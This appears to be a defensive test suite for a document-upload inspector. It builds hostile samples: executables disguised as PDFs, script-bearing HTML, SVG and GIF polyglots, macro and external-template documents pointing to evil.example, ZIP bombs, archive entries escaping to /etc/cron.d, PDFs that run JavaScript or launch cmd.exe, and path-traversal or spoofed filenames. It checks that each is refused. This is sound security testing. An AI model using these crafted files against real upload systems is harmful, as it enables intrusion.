// @module-tag long
import { deflateRawSync } from 'node:zlib';
import fc from 'fast-check';
import { strToU8, unzipSync, zipSync, type Zippable } from 'fflate';
import sql from 'sql-template-tag';
import { beforeAll, describe, expect, it } from 'vitest';
import { anOrganization, type TestOrganization } from '#server/testing/builders.ts';
import { aDocx, anObjectStream, anOdt, anXlsx, aPdf, aPicture, sendEvidence } from '#server/testing/documents/files.ts';
import { openWorld } from '#server/testing/world.ts';
import { inspect } from './inspection/inspect.ts';
import { Unfit } from './inspection/fault.ts';

const world = openWorld();
let org: TestOrganization;
beforeAll(async () => {
  org = await anOrganization(world.deps);
});

const text = (content: string): Buffer => Buffer.from(content, 'latin1');

/** The same package with more parts, or others. */
async function changed(book: Promise<Buffer>, parts: Zippable): Promise<Buffer> {
  return Buffer.from(zipSync({ ...unzipSync(await book), ...parts }));
}

/** The same package with every part said to be encrypted. */
async function locked(book: Promise<Buffer>): Promise<Buffer> {
  const bytes = Buffer.from(await book);
  for (let at = bytes.indexOf('PK\u0001\u0002'); at >= 0; at = bytes.indexOf('PK\u0001\u0002', at + 4)) bytes.writeUInt16LE(1, at + 8);
  return bytes;
}

/** An OpenDocument text with a part that unpacks to very much; its directory may say otherwise. */
function bomb(megabytes: number, statedBytes?: number): Buffer {
  const packed = deflateRawSync(Buffer.alloc(megabytes * 1_000_000, 0x20));
  const bytes = anOdt({ 'Pictures/bomb.xml': [packed, { level: 0 }] });
  const name = bytes.indexOf('Pictures/bomb.xml');
  const again = bytes.lastIndexOf('Pictures/bomb.xml');
  bytes.writeUInt16LE(8, name - 30 + 8);
  bytes.writeUInt32LE(statedBytes ?? megabytes * 1_000_000, name - 30 + 22);
  bytes.writeUInt16LE(8, again - 46 + 10);
  bytes.writeUInt32LE(statedBytes ?? megabytes * 1_000_000, again - 46 + 24);
  return bytes;
}

/** A PNG that states it is that wide and high. */
async function hugePicture(side: number): Promise<Buffer> {
  const png = Buffer.from(await aPicture('png'));
  png.writeUInt32BE(side, 16);
  png.writeUInt32BE(side, 20);
  return png;
}

const contentTypes = async (from: string, to: string): Promise<Zippable> => {
  const parts = unzipSync(await aDocx());
  return {
    '[Content_Types].xml': strToU8(
      Buffer.from(parts['[Content_Types].xml'] ?? [])
        .toString()
        .replace(from, to),
    ),
  };
};
const wordMain = 'wordprocessingml.document.main+xml';
const relationship = (kind: string): string =>
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>`;
const compound = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)]);

type Case = readonly [what: string, name: string, bytes: () => Buffer | Promise<Buffer>, code: string];

const cases: readonly Case[] = [
  ['a program', 'setup.pdf', () => Buffer.concat([text('MZ'), Buffer.alloc(400)]), 'evidence_type'],
  ['a page', 'note.txt', () => text('<!doctype html><script>alert(1)</script>'), 'evidence_type'],
  ['a page behind a byte order mark', 'note.txt', () => text('\u00ef\u00bb\u00bf <HTML><script>alert(1)</script>'), 'evidence_type'],
  ['a drawing with a script', 'drawing.csv', () => text('<?xml version="1.0"?><svg onload="alert(1)"/>'), 'evidence_type'],
  ['a GIF that is a script too', 'logo.gif', () => text('GIF89a/*\u0001\u0000\u0001\u0000*/=1;alert(1)//;'), 'evidence_type'],
  ['a GIF that calls itself PNG', 'logo.png', () => text('GIF89a/*\u0001\u0000\u0001\u0000*/=1;alert(1)//;'), 'evidence_type'],
  [
    'a picture of a telephone that cannot be drawn',
    'IMG_1.heic',
    () => Buffer.concat([Buffer.alloc(4), text('ftypheic'), Buffer.alloc(60)]),
    'evidence_heic',
  ],
  ['an archive', 'all.zip', () => Buffer.from(zipSync({ 'a.txt': strToU8('a') })), 'evidence_type'],
  [
    'an archive with a password',
    'all.zip',
    () => locked(Promise.resolve(Buffer.from(zipSync({ 'a.txt': strToU8('a') })))),
    'evidence_encrypted',
  ],
  [
    'a document with a password',
    'policy.docx',
    () => Buffer.concat([compound, Buffer.from('EncryptedPackage', 'utf16le')]),
    'evidence_encrypted',
  ],
  ['a document of the former format', 'policy.doc', () => compound, 'evidence_type'],
  [
    'an OpenDocument with a password',
    'policy.odt',
    () => anOdt({ 'META-INF/manifest.xml': strToU8('<manifest:encryption-data/>') }),
    'evidence_encrypted',
  ],
  ['a document with macros', 'policy.docx', () => changed(aDocx(), { 'word/vbaProject.bin': new Uint8Array(9) }), 'evidence_macros'],
  [
    'a document with macros of another name',
    'policy.docx',
    async () =>
      changed(
        aDocx(),
        await contentTypes('</Types>', '<Default Extension="x" ContentType="application/vnd.ms-office.vbaProject"/></Types>'),
      ),
    'evidence_macros',
  ],
  [
    'a document of the type with macros',
    'policy.docx',
    async () => changed(aDocx(), await contentTypes(wordMain, 'x.macroEnabled.main+xml')),
    'evidence_macros',
  ],
  ['a workbook with controls', 'risks.xlsx', () => changed(anXlsx(), { 'xl/activeX/activeX1.xml': strToU8('<x/>') }), 'evidence_macros'],
  [
    'a document with an embedded program',
    'policy.docx',
    () => changed(aDocx(), { 'word/embeddings/oleObject1.bin': new Uint8Array(9) }),
    'evidence_macros',
  ],
  [
    'a document with macros inside an embedded workbook',
    'policy.docx',
    async () => changed(aDocx(), { 'word/embeddings/Sheet.xlsx': await changed(anXlsx(), { 'xl/vbaProject.bin': new Uint8Array(9) }) }),
    'evidence_macros',
  ],
  [
    'a document whose template is fetched from elsewhere',
    'policy.docx',
    () => changed(aDocx(), { 'word/_rels/settings.xml.rels': strToU8(relationship('attachedTemplate')) }),
    'evidence_macros',
  ],
  ['an OpenDocument with macros', 'policy.odt', () => anOdt({ 'Basic/Standard/Module1.xml': strToU8('<x/>') }), 'evidence_macros'],
  ['a ZIP bomb that says what it is', 'policy.odt', () => bomb(250), 'evidence_bomb'],
  ['a ZIP bomb that says it is small', 'policy.odt', () => bomb(60, 1000), 'evidence_bomb'],
  [
    'a document of 10 000 parts',
    'policy.docx',
    () => changed(aDocx(), Object.fromEntries(Array.from({ length: 10_000 }, (_, at) => [`x/${at}`, new Uint8Array(1)]))),
    'evidence_bomb',
  ],
  ['a document that is cut off', 'policy.docx', async () => (await aDocx()).subarray(0, -40), 'evidence_damaged'],
  [
    'a document with something behind it',
    'policy.docx',
    async () => Buffer.concat([await aDocx(), text('<script>alert(1)</script>')]),
    'evidence_damaged',
  ],
  ['a document whose parts lead outside', 'policy.odt', () => anOdt({ '../../etc/cron.d/x': strToU8('x') }), 'evidence_damaged'],
  [
    'a PDF that is an archive too',
    'report.pdf',
    () => Buffer.concat([aPdf(), Buffer.from(zipSync({ 'a.txt': strToU8('a') }))]),
    'evidence_mixed',
  ],
  [
    'a PDF with a long archive behind it',
    'report.pdf',
    () => Buffer.concat([aPdf(), Buffer.from(zipSync({ 'a.txt': [new Uint8Array(9000), { level: 0 }] }))]),
    'evidence_damaged',
  ],
  [
    'a PDF that is a page too',
    'report.pdf',
    () => Buffer.concat([text('%PDF-1.4 <html><script>alert(1)</script></html>\n'), aPdf()]),
    'evidence_mixed',
  ],
  ['a PDF that is cut off', 'report.pdf', () => aPdf().subarray(0, 90), 'evidence_damaged'],
  ['a PDF behind something else', 'report.pdf', () => Buffer.concat([text('#!/bin/sh\n\u0000'), aPdf()]), 'evidence_type'],
  ['a PDF with a password', 'report.pdf', () => aPdf({ trailer: '/Encrypt 7 0 R' }), 'evidence_encrypted'],
  ['a PDF that runs a script', 'report.pdf', () => aPdf({ catalog: '/OpenAction<</S/JavaScript/JS(app.alert(1))>>' }), 'evidence_active'],
  [
    'a PDF that hides the name of its script',
    'report.pdf',
    () => aPdf({ catalog: '/OpenAction<</S/J#61vaScr#69pt/JS(app.alert(1))>>' }),
    'evidence_active',
  ],
  [
    'a PDF with its script in a compressed stream',
    'report.pdf',
    () => aPdf({ objects: anObjectStream('5 0 <</S/JavaScript/JS(x)>>') }),
    'evidence_active',
  ],
  [
    'a PDF with objects in a stream that cannot be read',
    'report.pdf',
    () => aPdf({ objects: anObjectStream('5 0 <<>>', '/Filter[/ASCII85Decode/FlateDecode]') }),
    'evidence_active',
  ],
  ['a PDF that starts a program', 'report.pdf', () => aPdf({ catalog: '/OpenAction<</S/Launch/F(cmd.exe)>>' }), 'evidence_active'],
  ['a PDF with a bomb in a stream', 'report.pdf', () => aPdf({ objects: anObjectStream(' '.repeat(120_000_000)) }), 'evidence_bomb'],
  ['a picture of 400 megapixels', 'photo.png', () => hugePicture(20_000), 'evidence_pixels'],
  ['a picture that is cut off', 'photo.jpg', async () => (await aPicture('jpeg', 600, 600)).subarray(0, 700), 'evidence_damaged'],
  ['a text with control characters', 'note.txt', () => text('a\u0000b'), 'evidence_type'],
  ['a PDF called a program', 'report.pdf.exe', () => aPdf(), 'evidence_ending'],
  ['a workbook called a document', 'risks.docx', () => anXlsx(), 'evidence_ending'],
];

async function traces(): Promise<unknown[]> {
  const stored: string[] = [];
  for await (const { key } of world.deps.files.list()) stored.push(key);
  const rows = await world.deps.db.rows(sql`select id from evidence union all select id from evidence_uploads order by 1`);
  return [...stored, ...rows];
}

describe('a file that is sent as evidence', () => {
  it.each(cases)('is refused with a reason when it is %s, and nothing of it is stored', async (_, name, bytes, code) => {
    const sent = await sendEvidence(world, org.cookie, { name, bytes: await bytes() });
    expect([sent.code, sent.status >= 400 && sent.status < 500, (sent.message ?? '').length > 10]).toEqual([code, true, true]);
    expect(await traces()).toEqual([]);
  });

  it.each([
    '../../etc/passwd.pdf',
    '/etc/report.pdf',
    'C:\\temp\\report.pdf',
    '..\\report.pdf',
    '.htaccess',
    'report\u202efdp.exe',
    'a\u2066b.pdf',
    'a\u200bb.pdf',
    'a\u0000.pdf',
    'a\nb.pdf',
    'a\u{e0041}.pdf',
  ])('is refused by its name %j before anything is sent', async (name) => {
    const sent = await sendEvidence(world, org.cookie, { name, bytes: aPdf() });
    expect([sent.status, sent.code]).toEqual([400, 'invalid_input']);
    expect((sent.body.fields as Record<string, string>).name).toBeTruthy();
    expect(await traces()).toEqual([]);
  });

  it('is refused over 20 MB, and when it is empty', async () => {
    for (const bytes of [20_000_001, 0]) {
      const answer = await world.call('POST', '/api/evidence/uploads', { cookie: org.cookie, body: { name: 'a.pdf', bytes } });
      expect([answer.statusCode, Object.keys(answer.json().fields)]).toEqual([400, ['bytes']]);
    }
  });

  it('is named with the reason in the log', async () => {
    const [last] = await world.deps.db.rows<{ metadata: unknown }>(
      sql`select metadata from audit_logs where action = 'evidence.refused' order by id limit 1`,
    );
    expect(last?.metadata).toEqual({ name: 'setup.pdf', reason: 'evidence_type' });
  });
});

describe('the inspection of a file', () => {
  it('of any bytes ends with a type or a reason', async () => {
    const files = [aPdf({ objects: anObjectStream('5 0 <<>>') }), await aDocx(), anOdt(), await aPicture()];
    fc.assert(
      fc.property(
        fc.constantFrom(...files),
        fc.array(fc.tuple(fc.nat(4000), fc.nat(255)), { minLength: 1, maxLength: 20 }),
        (file, changes) => {
          const damaged = Buffer.from(file);
          for (const [at, byte] of changes) damaged[at % damaged.length] = byte;
          try {
            inspect(damaged, 'pdf');
          } catch (error) {
            expect(error instanceof Unfit || error instanceof RangeError, String(error)).toBe(true);
          }
        },
      ),
    );
  });
});
